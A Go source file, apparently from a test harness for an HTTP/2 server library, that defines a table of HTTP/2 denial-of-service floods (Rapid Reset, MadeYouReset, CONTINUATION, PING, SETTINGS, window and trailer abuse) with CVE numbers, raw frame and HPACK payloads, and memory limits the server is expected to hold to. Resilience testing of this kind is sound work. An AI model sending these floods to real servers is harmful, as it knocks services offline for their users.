package main

import (
	"bytes"
	"strings"

	"h2fork.example/net/internal/wire"
)

const (
	kib = 1 << 10
	mib = 1 << 20

	streams = 250 // that servers let a client have open

	endOfBoth = wire.FlagEndHeaders | wire.FlagEndStream
)

// attacks are the attacks of the last years, in the order of README.md's table.
var attacks = []attack{
	{
		name: "Rapid Reset", cve: "CVE-2023-44487",
		flood: each(func(id uint32) []byte {
			return wire.AppendRSTStream(request(id, pathWait, true), id, wire.Cancel)
		}),
		end: sentAway, live: 2 * mib,
	},
	{
		name: "MadeYouReset", cve: "CVE-2025-8671",
		flood: each(func(id uint32) []byte {
			return wire.AppendWindowUpdate(request(id, pathWait, true), id, wire.MaxWindow)
		}),
		end: sentAway, live: 2 * mib,
	},
	{
		name: "CONTINUATION flood", cve: "CVE-2023-45288",
		first: frame(wire.Headers, 0, 1, fields(pathWait)),
		flood: forever(frame(wire.Continuation, 0, 1, strings.Repeat("\x00\x01a\x7f\x81\x07"+strings.Repeat("x", 1024), 15))),
		end:   sentAway, live: 4 * mib,
	},
	{
		name: "CONTINUATION by the byte", cve: "CVE-2023-45288",
		first: frame(wire.Headers, 0, 1, fields(pathWait)),
		flood: forever(bytes.Repeat(frame(wire.Continuation, 0, 1, "\x82"), 1000)),
		end:   sentAway, live: 2 * mib,
	},
	{
		name: "HTTP/2 bomb, pinned", cve: "CVE-2026-49975", settings: noWindow,
		first: frame(wire.Headers, endOfBoth, 1, fields(pathEcho)+"\x60\x7f\xa1\x1e"+strings.Repeat("x", 4000)),
		flood: upTo(streams-1, func(i int) []byte {
			return frame(wire.Headers, endOfBoth, uint32(2*i+3), fields(pathEcho)+strings.Repeat("\xbe", 250))
		}),
		end: allRead, live: streams * 16 * kib,
	},
	{
		name: "PING flood, unread", cve: "CVE-2019-9512", deaf: true,
		flood: forever(bytes.Repeat(frame(wire.Ping, 0, 0, "12345678"), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "SETTINGS flood, unread", cve: "CVE-2019-9515", deaf: true,
		flood: forever(bytes.Repeat(wire.AppendSettings(nil), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "empty DATA", cve: "CVE-2019-9518",
		first: request(1, pathWait, false),
		flood: forever(bytes.Repeat(frame(wire.Data, 0, 1, ""), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "PRIORITY churn", cve: "CVE-2019-9513",
		flood: forever(bytes.Repeat(frame(wire.Priority, 0, 3, "\x00\x00\x00\x01\x10"), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "WINDOW_UPDATE by the byte", cve: "",
		flood: forever(bytes.Repeat(wire.AppendWindowUpdate(nil, 0, 1), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "RST_STREAM of the closed", cve: "",
		first: wire.AppendRSTStream(request(1, pathWait, true), 1, wire.Cancel),
		flood: forever(bytes.Repeat(wire.AppendRSTStream(nil, 1, wire.Cancel), 1000)),
		end:   sentAway, live: mib,
	},
	{
		name: "unread responses", cve: "CVE-2019-9517", deaf: true,
		settings: []wire.Setting{{ID: wire.SettingInitialWindowSize, Val: wire.MaxWindow}},
		first:    wire.AppendWindowUpdate(nil, 0, wire.MaxWindow-wire.DefaultWindow),
		flood: upTo(streams, func(i int) []byte {
			return request(uint32(2*i+1), pathWrite, true)
		}),
		end: allRead, live: streams * 64 * kib,
	},
	{
		name: "window-size churn, 250 streams", settings: noWindow,
		first: openAll(pathWrite),
		flood: upTo(4, func(int) []byte {
			var churn []byte
			for i := range uint32(1000) {
				churn = wire.AppendSettings(churn, wire.Setting{ID: wire.SettingInitialWindowSize, Val: i % 2})
			}
			return churn
		}),
		end: allRead, live: streams * 64 * kib,
	},
	{
		name: "window by the byte, 250 streams", cve: "CVE-2019-9511",
		first: openAll(pathWrite),
		flood: forever(bytes.Repeat(wire.AppendWindowUpdate(nil, 0, 1), 100)),
		end:   sentAway, live: streams * 64 * kib,
	},
	{
		name: "declared trailers", cve: "",
		flood: upTo(streams, func(i int) []byte {
			return frame(wire.Headers, wire.FlagEndHeaders, uint32(2*i+1), fields(pathWait)+manyTrailers)
		}),
		end: allRead, live: streams * 64 * kib,
	},
	{
		name: "announced large frames", cve: "",
		flood: upTo(1, func(int) []byte {
			return wire.AppendHeader(nil, wire.Header{Type: wire.Data, StreamID: 1, Length: mib})
		}),
		deaf: true,
		end:  allRead, live: 512 * kib,
	},
}

var noWindow = []wire.Setting{{ID: wire.SettingInitialWindowSize, Val: 0}}

// fields is an HPACK field section for a GET of path, without dynamic entries.
func fields(path string) string {
	return "\x82\x86\x04" + string([]byte{byte(len(path))}) + path + "\x01\x01a"
}

// manyTrailers is a field that declares five thousand trailers.
var manyTrailers = func() string {
	var keys []byte
	for i := range 5000 {
		keys = append(keys, 'a'+byte(i%26), 'a'+byte(i/26%26), 'a'+byte(i/676), ',')
	}
	return "\x00\x07trailer\x7f" + string(length(len(keys)-127)) + string(keys)
}()

// length is the continuation of an HPACK integer whose prefix is full.
func length(n int) (b []byte) {
	for ; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(b, byte(n))
}

func frame(t wire.FrameType, flags wire.Flags, id uint32, payload string) []byte {
	return append(wire.AppendHeader(nil, wire.Header{Type: t, Flags: flags, StreamID: id, Length: uint32(len(payload))}), payload...)
}

// request is a request for path, with a body to follow unless end.
func request(id uint32, path string, end bool) []byte {
	flags := wire.FlagEndHeaders
	if end {
		flags |= wire.FlagEndStream
	}
	return frame(wire.Headers, flags, id, fields(path))
}

// openAll opens as many streams as there may be.
func openAll(path string) (all []byte) {
	for i := range uint32(streams) {
		all = append(all, request(2*i+1, path, true)...)
	}
	return all
}

// each is a flood of what is sent for stream after stream, a hundred at a time.
func each(send func(id uint32) []byte) func(int) []byte {
	return func(i int) (p []byte) {
		for n := range uint32(100) {
			p = append(p, send(2*(uint32(i)*100+n)+1)...)
		}
		return p
	}
}

// forever is a flood of the same.
func forever(p []byte) func(int) []byte { return func(int) []byte { return p } }

// upTo is a flood that ends.
func upTo(n int, send func(i int) []byte) func(int) []byte {
	return func(i int) []byte {
		if i >= n {
			return nil
		}
		return send(i)
	}
}
